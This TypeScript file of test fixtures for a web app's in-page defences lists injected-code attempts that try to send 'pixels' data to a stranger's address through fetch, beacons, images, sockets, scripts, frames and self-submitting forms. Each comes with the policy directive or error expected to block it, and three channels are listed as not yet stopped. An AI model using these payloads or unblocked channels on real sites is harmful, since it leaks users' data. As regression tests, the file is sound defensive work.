/** One attempt of code that has got into the page: what it does, and who must stop it. */
export interface Attack {
  readonly name: string;
  /** A function's body; `there` is the stranger's address, `raw` what was kept from before the page gave it up. */
  readonly code: string;
  /** The directive whose report must come, or the error that must be thrown. */
  readonly stoppedBy: string;
}

const put = (element: string, rest: string): string =>
  `const e = document.createElement('${element}'); ${rest}; document.body.append(e);`;

/** Stopped by the policy of the document, and told by a report. */
export const BY_POLICY: readonly Attack[] = [
  {
    name: 'a style in the document',
    code: put('style', `e.append('body{display:none}')`),
    stoppedBy: 'style-src-elem',
  },
  {
    name: 'a style attribute',
    code: `document.body.setAttribute('style', 'display:none')`,
    stoppedBy: 'style-src-attr',
  },
  {
    name: 'a foreign style sheet',
    code: put('link', `e.rel = 'stylesheet'; e.href = there + 'a.css'`),
    stoppedBy: 'style-src-elem',
  },
  { name: 'a foreign picture', code: `new Image().src = there + 'a.png?pixels'`, stoppedBy: 'img-src' },
  {
    name: 'a background from elsewhere',
    code: `document.body.style.backgroundImage = 'url(' + there + 'b.png)'`,
    stoppedBy: 'img-src',
  },
  {
    name: 'a picture in its address',
    code: `new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`,
    stoppedBy: 'img-src',
  },
  {
    name: 'a foreign font',
    code: `new FontFace('x', 'url(' + there + 'a.woff)').load().catch(() => 0)`,
    stoppedBy: 'font-src',
  },
  { name: 'a foreign video', code: put('video', `e.src = there + 'a.mp4'`), stoppedBy: 'media-src' },
  {
    name: 'a request to another port',
    code: `fetch(there, { method: 'POST', body: 'pixels', mode: 'no-cors' }).catch(() => 0)`,
    stoppedBy: 'connect-src',
  },
  {
    name: 'XMLHttpRequest to another port',
    code: `const x = new XMLHttpRequest(); x.open('POST', there); x.send('pixels')`,
    stoppedBy: 'connect-src',
  },
  {
    name: 'a socket that was kept from before',
    code: `try { new raw.WebSocket(there.replace('http', 'ws')) } catch {}`,
    stoppedBy: 'connect-src',
  },
  { name: 'an event source kept from before', code: `new raw.EventSource(there)`, stoppedBy: 'connect-src' },
  {
    name: 'a beacon kept from before',
    code: `raw.sendBeacon.call(navigator, there, 'pixels')`,
    stoppedBy: 'connect-src',
  },
  {
    name: 'a module in its address',
    code: `import('data:text/javascript,globalThis.attacked=true').catch(() => 0)`,
    stoppedBy: 'script-src-elem',
  },
  {
    name: 'a module from elsewhere',
    code: `import(there + 'a.js').catch(() => 0)`,
    stoppedBy: 'script-src-elem',
  },
  {
    name: 'a prefetch',
    code: put('link', `e.rel = 'prefetch'; e.href = there + 'p'`),
    stoppedBy: 'default-src',
  },
  {
    name: 'a preload',
    code: put('link', `e.rel = 'preload'; e.as = 'image'; e.href = there + 'q'`),
    stoppedBy: 'img-src',
  },
  {
    name: 'a base kept from before',
    code: `const e = raw.createElement.call(document, 'base'); e.href = there; document.head.append(e)`,
    stoppedBy: 'base-uri',
  },
];

/** Stopped by an error where it is tried. */
export const BY_ERROR: readonly Attack[] = [
  {
    name: 'a script in the document',
    code: put('script', `e.textContent = 'globalThis.attacked = true'`),
    stoppedBy: 'TypeError',
  },
  {
    name: 'the microphone',
    code: `if (!document.featurePolicy.allowsFeature('microphone')) throw new DOMException('', 'NotAllowedError')`,
    stoppedBy: 'NotAllowedError',
  },
  {
    name: 'markup',
    code: `document.body.innerHTML = '<img src=x onerror=alert(1)>'`,
    stoppedBy: 'TypeError',
  },
  {
    name: 'a handler in an attribute',
    code: `document.body.setAttribute('onclick', 'globalThis.attacked = true')`,
    stoppedBy: 'TypeError',
  },
  { name: 'a foreign script', code: put('script', `e.src = there + 'a.js'`), stoppedBy: 'TypeError' },
  {
    name: 'a file of the app as script',
    code: put('script', `e.src = '/third-party-notices.txt'`),
    stoppedBy: 'TypeError',
  },
  { name: 'text as code', code: `setTimeout('globalThis.attacked = true')`, stoppedBy: 'TypeError' },
  {
    name: 'a worker from a blob',
    code: `new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))`,
    stoppedBy: 'TypeError',
  },
  {
    name: 'a worker in its address',
    code: `new Worker('data:text/javascript,postMessage(1)')`,
    stoppedBy: 'TypeError',
  },
  {
    name: 'another service worker',
    code: `await navigator.serviceWorker.register('/assets/evil.js?' + there)`,
    stoppedBy: 'TypeError',
  },
  {
    name: 'WebRTC',
    code: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + port }] })`,
    stoppedBy: 'GuardedError',
  },
  { name: 'a socket', code: `new WebSocket(there.replace('http', 'ws'))`, stoppedBy: 'GuardedError' },
  { name: 'an event source', code: `new EventSource(there)`, stoppedBy: 'GuardedError' },
  { name: 'WebTransport', code: `new WebTransport('https://127.0.0.1:1')`, stoppedBy: 'GuardedError' },
  { name: 'a beacon', code: `navigator.sendBeacon(there, 'pixels')`, stoppedBy: 'GuardedError' },
  { name: 'a window', code: `open(there)`, stoppedBy: 'GuardedError' },
  { name: 'a recorder', code: `new MediaRecorder(new MediaStream())`, stoppedBy: 'GuardedError' },
  {
    name: 'a frame with globals of its own',
    code: put('iframe', ''),
    stoppedBy: 'GuardedError',
  },
  {
    name: 'a frame by its namespace',
    code: `document.createElementNS('http://www.w3.org/1999/xhtml', 'IFRAME')`,
    stoppedBy: 'GuardedError',
  },
  { name: 'an object', code: put('object', 'e.data = there'), stoppedBy: 'GuardedError' },
  { name: 'another base', code: put('base', 'e.href = there'), stoppedBy: 'GuardedError' },
  {
    name: 'the place where somebody is',
    code: `await new Promise((_, no) => navigator.geolocation.getCurrentPosition(() => 0, ({ code }) => no(code === 1 ? new DOMException('', 'NotAllowedError') : code)))`,
    stoppedBy: 'NotAllowedError',
  },
  {
    name: 'the screen',
    code: `await navigator.mediaDevices.getDisplayMedia({ video: true })`,
    stoppedBy: 'NotAllowedError',
  },
];

/** Ways to leave the page with something in the address, or to bring another one in: no request is made. */
export const BY_STAYING: readonly Attack[] = [
  { name: 'going elsewhere', code: `location.href = there + '?pixels'`, stoppedBy: 'staying' },
  { name: 'replacing the page', code: `location.replace(there + '?pixels')`, stoppedBy: 'staying' },
  {
    name: 'a refresh of the document',
    code: put('meta', `e.httpEquiv = 'refresh'; e.content = '0;url=' + there`),
    stoppedBy: 'staying',
  },
  {
    name: 'a link that clicks itself',
    code: put('a', `e.href = there + '?pixels'`) + 'e.click()',
    stoppedBy: 'staying',
  },
  {
    name: 'a form to elsewhere',
    code: put('form', `e.action = there; e.method = 'post'`) + 'e.submit()',
    stoppedBy: 'staying',
  },
  {
    name: 'an object kept from before',
    code: `const e = raw.createElement.call(document, 'object'); e.data = there; document.body.append(e)`,
    stoppedBy: 'staying',
  },
  {
    name: 'a frame kept from before',
    code: `const e = raw.createElement.call(document, 'iframe'); e.src = there; document.body.append(e)`,
    stoppedBy: 'staying',
  },
  {
    name: 'a script that is put together in the document',
    code: put('script', `e.append('globalThis.attacked = true')`),
    stoppedBy: 'staying',
  },
];

/** An attempt that nothing stops today. */
export interface OpenWay extends Omit<Attack, 'stoppedBy'> {
  /** Everything that reaches the stranger, each once; a change of it, for better or worse, has to be noticed. */
  readonly arrives: readonly string[];
  readonly reports: readonly string[];
  readonly thrown: string;
  /** Windows of the browser afterwards. */
  readonly windows: number;
}

/** What nothing stops: each is named under "Attacks from within the page" in docs/privacy-proof.md. */
export const NOT_STOPPED: readonly OpenWay[] = [
  {
    name: 'WebRTC that was kept from before the first script of the app',
    code: `const peer = new raw.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + port }] });
      peer.createDataChannel('x'); await peer.setLocalDescription();
      setTimeout(() => peer.close(), 300);`,
    ...{ arrives: ['packet'], reports: [], thrown: 'nothing', windows: 1 },
  },
  {
    name: 'a hint to connect',
    code: put('link', `e.rel = 'preconnect'; e.href = there`),
    ...{ arrives: ['connection'], reports: [], thrown: 'nothing', windows: 1 },
  },
  {
    name: 'a link to a new window that clicks itself, where the browser lets windows open without a click',
    code: put('a', `e.href = there + '?window'; e.target = '_blank'`) + 'e.click()',
    ...{
      arrives: ['GET /?window', 'GET /favicon.ico', 'connection'],
      reports: [],
      thrown: 'nothing',
      windows: 2,
    },
  },
];
